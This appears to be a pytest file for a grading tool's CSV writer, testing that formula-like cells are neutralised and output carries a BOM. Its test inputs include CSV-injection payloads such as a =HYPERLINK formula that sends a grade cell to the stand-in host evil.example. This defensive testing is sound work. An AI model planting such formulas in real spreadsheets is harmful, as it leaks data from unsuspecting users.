"""The one CSV writer: a BOM, and no cell a spreadsheet would run as a formula."""
import csv
import io

import pytest

from derive.cli import main
from derive.tables import BOM, csv_text, safe_cell, unsafe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&C2,"Show grade")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tcmd", "\rcmd", "=1", "-x", "+", "@"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_neutralised(text):
    cell = safe_cell(text)
    assert cell == "'" + text and unsafe_cell(cell) == text


@pytest.mark.parametrize("number", ["-0.7400", "0.5", "+1", "-1e-3", "12", "-.5"])
def test_numbers_are_not_affected(number):
    assert safe_cell(number) == number


def test_csv_text_has_a_bom_and_round_trips():
    text = csv_text([["student_id", "name"], ["=1+1", "José"], ["s2", "-0.5"]])
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [["student_id", "name"], ["'=1+1", "José"], ["s2", "-0.5"]]


def test_hostile_names_and_ids_never_reach_a_spreadsheet_as_formulas(tmp_path):
    roster = tmp_path / "r.csv"
    rows = [f"s{i},{name}" for i, name in enumerate(['"=HYPERLINK(""http://evil.example/"",""x"")"', "+cmd",
                                                     "-cmd", "@cmd"])]
    roster.write_text("student_id,name\n" + "\n".join(rows) + "\n", encoding="utf-8")
    assert main(["worksheets", "worksheets/random-221.toml", "--roster", str(roster), "--out", str(tmp_path / "c"),
                 "--secret", "s", "--weak-secret", "--no-pdf"]) == 0
    answers = tmp_path / "a.csv"
    answers.write_text("student_id,z1_1\ns0,0.1\n", encoding="utf-8")
    assert main(["grade", "worksheets/random-221.toml", "--roster", str(roster), "--answers", str(answers),
                 "--out", str(tmp_path / "g"), "--key", str(tmp_path / "c" / "answer-key.csv")]) == 0
    for path in (tmp_path / "c" / "answer-key.csv", tmp_path / "g" / "grades.csv"):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        live = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                or (c.startswith("-") and not c.replace("-", "", 1).replace(".", "", 1).isdigit())]
        assert not live, (path.name, live)
        assert "'=HYPERLINK(\"http://evil.example/\",\"x\")" in cells
